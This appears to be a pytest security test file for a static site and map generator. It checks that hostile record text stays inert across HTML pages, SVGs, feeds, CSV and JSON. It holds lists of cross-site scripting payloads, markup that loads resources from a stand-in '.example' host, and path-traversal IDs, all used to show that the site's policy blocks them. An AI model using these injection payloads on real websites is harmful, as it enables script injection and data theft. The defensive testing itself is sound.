"""Hostile data comes to no effect wherever it is published, and is still shown."""

from __future__ import annotations

import csv
import json
import re
import unicodedata
import xml.etree.ElementTree as ET
from datetime import date
from html.parser import HTMLParser

import pytest
from browser.test_pages import until
from export.test_feeds import check_calendar, check_json_feed, read

import borders
from borders.errors import BuildError, OutputError
from borders.export import data_package as downloads
from borders.export import feeds
from borders.pictures import map_picture as picture
from borders.pictures.map_layout import LAYOUTS
from borders.record.columns import TABLES
from borders.record.problems import DataError
from borders.site import build as site
from borders.site.pages import single_file
from helpers.editable_folder import Copy
from helpers.hostile_record import ADDRESS, ATTACK, ATTACKS, RAN, hostile_dataset

FIRST, LAST = date(2023, 12, 14), date(2023, 12, 15)
BASE = "https://example.org/borders/"
# What each kind of page shows of the attack, and how often at least.
KINDS = {
    "index.html": 20,
    "embed/index.html": 5,
    "dates/2023-12-15/index.html": 20,
    "crossings/index.html": 20,
    "crossings/vaalimaa/index.html": 50,
    "decisions/index.html": 50,
    "claims/index.html": 50,
    "about/index.html": 1,
    "downloads/index.html": 1,
    "404.html": 1,
    "single.html": 20,
}
TAGS = {  # all that a page is made of; <a> and <iframe> are looked at more closely
    *("html", "head", "meta", "title", "link", "script", "style", "body", "nav", "a", "main"),
    *("header", "footer", "section", "div", "p", "h1", "h2", "b", "ul", "ol", "li", "dl", "dt"),
    *("dd", "table", "caption", "thead", "tbody", "tr", "th", "td", "span", "img", "svg", "label"),
    *("input", "button", "mark", "pre", "code", "path", "rect", "text", "tspan", "g", "use"),
    *("image", "circle", "defs", "desc", "clippath", "symbol", "small"),
}


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    return hostile_dataset(Copy(tmp_path_factory.mktemp("hostile")))


@pytest.fixture(scope="module")
def built(hostile, tmp_path_factory):
    """A site and a single map made of nothing but attacks."""
    folder = tmp_path_factory.mktemp("published") / "site"
    site.build(hostile, folder, FIRST, LAST, every_day=True, base_url=BASE)
    text = single_file.single_page(hostile, hostile.slice("2023-12-15", as_of="2024-01-01"))
    (folder / "single.html").write_text(text, encoding="utf-8")
    return folder


def squeezed(text):
    """The words without white space and what cannot be seen, as a page may break its lines."""
    return "".join(c for c in text if not c.isspace() and unicodedata.category(c) != "Cf")


SHOWN = squeezed(ATTACKS[0])


class Page(HTMLParser):
    """The elements and attributes of a page, as a browser would find them."""

    def __init__(self, text):
        super().__init__(convert_charrefs=True)
        self.found, self.words, self.raw = [], [], None
        self.feed(text)

    def handle_starttag(self, tag, attributes):
        self.found.append((tag, dict(attributes)))
        self.raw = tag if tag in ("script", "style") else None

    def handle_endtag(self, _tag):
        self.raw = None

    def handle_data(self, data):
        if not self.raw:
            self.words.append(data)


@pytest.mark.parametrize(("path", "count"), KINDS.items())
def test_a_page_holds_the_attack_as_words_and_nothing_of_it_as_markup(built, path, count):
    page = Page((built / path).read_text(encoding="utf-8"))
    drawn = [attributes["src"] for tag, attributes in page.found if tag == "img"]
    pictures = [Page((built / path).parent.joinpath(name).read_text("utf-8")) for name in drawn]
    words = "".join("".join(part.words) for part in (page, *pictures))
    assert squeezed(words).count(SHOWN) >= count
    assert {tag for tag, _ in page.found} <= TAGS
    for tag, attributes in page.found:
        assert not [name for name in attributes if name.startswith("on")], (tag, attributes)
        assert not attributes.keys() & {"style", "srcdoc", "autofocus", "formaction"}, tag
        if tag in ("script", "img", "link", "image", "use"):
            address = attributes.get("src") or attributes.get("href") or ""
            assert RAN not in address, (tag, address)
        if tag == "meta":
            assert attributes.get("http-equiv", "") in ("", "Content-Security-Policy")


def test_the_shared_scripts_hold_the_attack_as_text_alone(built):
    for name in ("record.js", "basemap.js", "frontier.js"):
        text = (built / "assets" / name).read_text(encoding="utf-8")
        start, _, value = text.partition(" = ")
        assert re.fullmatch(r"borders\.(record|base|line)", start)
        json.loads(value.removesuffix(";\n"))  # one value of JSON: no expression, no template
        assert not set("<>&\u2028\u2029") & set(value)


@pytest.mark.parametrize("path", ["stills/*.svg", "assets/timeline.svg", "map.svg"])
def test_a_picture_holds_the_attack_as_words(hostile, built, path):
    texts = [file.read_text(encoding="utf-8") for file in built.glob(path)] or [
        picture.svg(hostile, hostile.slice(LAST), layout) for layout in LAYOUTS.values()
    ]
    assert texts
    for text in texts:
        root = ET.fromstring(text)
        assert SHOWN in squeezed("".join(root.itertext()))
        for element in root.iter():
            assert element.tag.rpartition("}")[2].lower() in TAGS
            for name, value in element.attrib.items():
                assert not name.startswith("on")
                assert not name.endswith("href") or value.startswith("#")


def test_the_feeds_hold_the_attack_as_words(built):
    files = {
        path: (built / path).read_bytes().decode()
        for path in (feeds.ATOM, feeds.JSON_FEED, feeds.CALENDAR)
    }
    check_json_feed(json.loads(files[feeds.JSON_FEED]))
    check_calendar(files[feeds.CALENDAR])
    found = read(files)
    assert found[feeds.ATOM] == found[feeds.JSON_FEED] == found[feeds.CALENDAR]
    assert len(found[feeds.ATOM]) >= 20
    assert all(SHOWN in squeezed(title) for _, title, _ in found[feeds.ATOM])
    for element in ET.fromstring(files[feeds.ATOM]).iter():
        assert element.get("href", BASE).startswith(BASE)


def test_what_is_told_to_machines_holds_the_attack_as_words(built):
    text = (built / "downloads" / "index.html").read_text(encoding="utf-8")
    (told,) = re.findall(r'<script type="application/ld\+json">(.*?)</script>', text, re.DOTALL)
    assert json.loads(told)["name"] == ATTACK
    page = Page((built / "dates/2023-12-15/index.html").read_text(encoding="utf-8"))
    meta = {a.get("property"): a.get("content") for tag, a in page.found if tag == "meta"}
    assert ATTACKS[0] in meta["og:title"]
    assert meta["og:url"] == f"{BASE}dates/2023-12-15/index.html"
    assert meta["og:image"].startswith(f"{BASE}cards/")


def test_json_for_programs_holds_the_attack_character_for_character(built):
    sources = json.loads((built / "api/v1/sources.json").read_text(encoding="utf-8"))["sources"]
    assert {source["title"] for source in sources} == {ATTACK}
    assert {source["url"] for source in sources} <= {ADDRESS, None}
    for path in (built / "api").rglob("*.json"):
        json.loads(path.read_text(encoding="utf-8"))


def test_tables_hold_the_attack_character_for_character(built):
    """A cell is the data, so a formula is one too: see `csv_text`."""
    for name in ("closures", "decisions", "sources", "claims", "events"):
        with (built / "downloads" / f"{name}.csv").open(encoding="utf-8", newline="") as file:
            rows = list(csv.DictReader(file))
        texts = {c.name for c in TABLES[name] if c.kind == "text"} - {"hours"}
        cells = {row[column] for row in rows for column in texts if row[column]}
        assert cells == {ATTACK.replace("\r\n", "\n")}  # as the reader of the folder has it


# in the browser


@pytest.fixture
def watch(browser, built):
    """Opens an address and notes all that it asks for, runs and complains of."""
    contexts = []

    def open_page(address, *, offline=True):
        context = browser.new_context(viewport={"width": 1280, "height": 900}, offline=offline)
        contexts.append(context)
        context.route(f"{BASE}**", lambda route: _published(route, built))
        page = context.new_page()
        page.seen = {"asked": [], "said": [], "ran": []}
        page.on("request", lambda request: _asked(page, request.url))
        page.on("requestfailed", lambda request: _stopped(page, request))
        page.on("console", lambda message: page.seen["said"].append(message.text))
        page.on("pageerror", lambda error: page.seen["said"].append(str(error)))
        page.on("dialog", lambda dialog: (page.seen["ran"].append("dialog"), dialog.dismiss()))
        page.on("popup", lambda _: page.seen["ran"].append("popup"))
        page.goto(address)
        return page

    yield open_page
    for context in contexts:
        context.close()


def _asked(page, address):
    if not address.startswith(("file:", "data:", BASE)):
        page.seen["asked"].append(address)


def _stopped(page, request):
    """The policy did not let it leave the browser."""
    if request.failure == "csp":
        page.seen["asked"].remove(request.url)


def _published(route, folder):
    route.fulfill(path=folder / route.request.url.removeprefix(BASE))


def ran(page):
    """What an attack has brought about."""
    found = page.evaluate(
        "(name) => ({set: typeof window[name], handlers: [...document.querySelectorAll('*')]"
        ".filter((one) => [...one.attributes].some((a) => a.name.startsWith('on'))).length,"
        " frames: frames.length, base: document.querySelectorAll('base').length})",
        RAN,
    )
    return [*page.seen["ran"], *page.seen["asked"]] + (
        [found] if found != {"set": "undefined", "handlers": 0, "frames": 0, "base": 0} else []
    )


@pytest.mark.browser
@pytest.mark.parametrize("path", KINDS)
def test_in_the_browser_nothing_runs_and_the_words_are_shown(built, watch, path):
    # Where nothing is found, a server shows the page, whose addresses therefore are absolute.
    page = watch(BASE + path if path == "404.html" else (built / path).as_uri())
    if page.locator(".folium-map").count():
        until(page, "borders.day !== null")
        until(page, "document.querySelectorAll('.crossing-icon').length > 5")
        marker = page.locator(".leaflet-marker-icon[tabindex]").last
        marker.focus()
        page.keyboard.press("Enter")
        words = page.locator(".leaflet-popup-content").inner_text()
        assert SHOWN in squeezed(words)
        page.locator(".leaflet-popup-content summary").first.focus()
        page.keyboard.press("Enter")
    if path == "index.html":
        for _ in range(3):
            page.keyboard.press("Escape")
            page.locator("#slider").focus()
            page.keyboard.press("ArrowLeft")
    page.wait_for_timeout(100)  # what waits for its turn has it now
    assert SHOWN in squeezed(page.locator("body").inner_text())
    assert ran(page) == []
    assert page.seen["said"] == []  # no policy had to stop anything: there was nothing to stop


@pytest.mark.browser
@pytest.mark.parametrize("path", ["assets/timeline.svg", "stills/2023-12-15.svg"])
def test_a_picture_opened_by_itself_runs_nothing(built, watch, path):
    page = watch((built / path).as_uri())
    page.wait_for_timeout(100)
    assert page.evaluate("(name) => typeof window[name]", RAN) == "undefined"
    assert page.seen == {"asked": [], "said": [], "ran": []}


# Markup that got into a page in spite of all. What would run sets a variable of its own.
RUNNING = (
    "<script>{ran}=1</script>",
    "<img src=data:,x onerror={ran}=1>",
    "<svg onload={ran}=1></svg>",
    "<a class=intruder href='javascript:{ran}=1;void 0'>x</a>",
    "<b class=intruder onclick={ran}=1>x</b>",
    "<script type=module>window.{ran}=1</script>",
    "<script src='data:text/javascript,{ran}=1'></script>",
    "<iframe srcdoc='<script>parent.{ran}=1</script>'></iframe>",
)
ASKING = (
    "<script src=https://{ran}.example/x.js></script>",
    "<img src=https://{ran}.example/x.png>",
    "<video src=https://{ran}.example/x.mp4></video>",
    "<style>@import 'https://{ran}.example/x.css'; footer {{display: none}}</style>",
    "<link rel=stylesheet href=https://{ran}.example/x.css>",
    "<iframe src=https://{ran}.example/></iframe>",
    "<object data=https://{ran}.example/></object>",
    "<form action=https://{ran}.example/><button class=intruder>x</button></form>",
    "<base href=https://{ran}.example/>",
)
RAN_OF_ALL = f"Object.keys(window).filter((name) => name.startsWith('{RAN}')).length"


def intruded(path, intruders, *, policy=True):
    """The address of a page with foreign markup in it."""
    text = path.read_text(encoding="utf-8")
    if not policy:
        text, count = re.subn(r'<meta http-equiv="Content-Security-Policy"[^>]*>', "", text)
        assert count == 1
    assert text.count("<footer>") == 1
    markup = "".join(one.format(ran=f"{RAN}_{place}") for place, one in enumerate(intruders))
    broken = path.with_name(f"intruded-{policy}.html")
    broken.write_text(text.replace("<footer>", f"{markup}<footer>"), encoding="utf-8")
    return broken.as_uri()


def click_all(page):
    for intruder in page.locator(".intruder").all():
        intruder.dispatch_event("click")


@pytest.mark.browser
@pytest.mark.parametrize("kind", ["index.html", "single.html", "decisions/index.html"])
def test_the_policy_stops_what_would_get_in(watch, whole, kind):
    address = intruded(whole / kind, RUNNING + ASKING)
    page = watch(address, offline=False)
    click_all(page)
    page.wait_for_timeout(300)
    assert page.evaluate(f"() => {RAN_OF_ALL}") == 0
    assert page.seen["asked"] == []
    assert page.seen["ran"] == []
    assert page.locator("footer").is_visible()
    assert page.url == address
    assert len(page.seen["said"]) >= len(RUNNING + ASKING) - 2  # the policy says what it stops
    if kind != "decisions/index.html":
        until(page, "document.querySelectorAll('.crossing-icon').length > 5")  # its own still runs


@pytest.mark.browser
def test_without_the_policy_all_of_it_would_run_or_ask(watch, whole):
    """So that the test before this one can fail."""
    page = watch(intruded(whole / "decisions/index.html", RUNNING, policy=False))
    click_all(page)
    until(page, f"{RAN_OF_ALL} === {len(RUNNING)}")
    page = watch(intruded(whole / "decisions/index.html", ASKING, policy=False), offline=False)
    assert not page.locator("footer").is_visible()
    assert len(page.seen["asked"]) >= len(ASKING) - 2  # of the last two, none before it is clicked


@pytest.fixture(scope="module")
def whole(ds, tmp_path_factory):
    """A site and a single map of the real record, to break into."""
    folder = tmp_path_factory.mktemp("whole") / "site"
    site.build(ds, folder, FIRST, FIRST, every_day=True)
    text = single_file.single_page(ds, ds.slice(FIRST))
    (folder / "single.html").write_text(text, encoding="utf-8")
    return folder


# paths


IDS = [
    "../x",
    "..",
    ".",
    "/etc/x",
    "a/b",
    "a\\b",
    "a.b",
    "",
    "A",
    "a b",
    "a%2e",
    "x\n",
    "é",
    "a--b",
]


@pytest.mark.parametrize("id_", IDS)
def test_no_id_of_a_folder_can_be_a_path(tmp_path, id_):
    copy = Copy(tmp_path)
    copy.add_crossing(id=id_)
    with pytest.raises(DataError, match=r"crossings\.geojson: crossing: .* is not an id"):
        borders.load(copy.path)


@pytest.mark.parametrize("id_", ["../x", "../../../x", "/nowhere/x", "a/../../../../x"])
def test_an_id_that_got_in_leads_nowhere(ds, tmp_path, id_):
    found = dict(ds.record.crossings)
    found[id_] = found["vaalimaa"]._replace(id=id_)
    intruded = borders.Dataset(ds.record._replace(crossings=found), (), ds.folder)
    out = tmp_path / "a" / "b" / "site"
    with pytest.raises((OutputError, BuildError), match=r"leads out of the folder|not whole"):
        site.build(intruded, out, FIRST, FIRST, every_day=True)
    assert [path for path in tmp_path.rglob("*") if path.is_file()] == []


def test_no_path_of_an_export_comes_from_a_text(hostile, ds):
    days = [FIRST, LAST]
    assert [path for path, _ in downloads.files(hostile, days)] == [
        path for path, _ in downloads.files(ds, days)
    ]
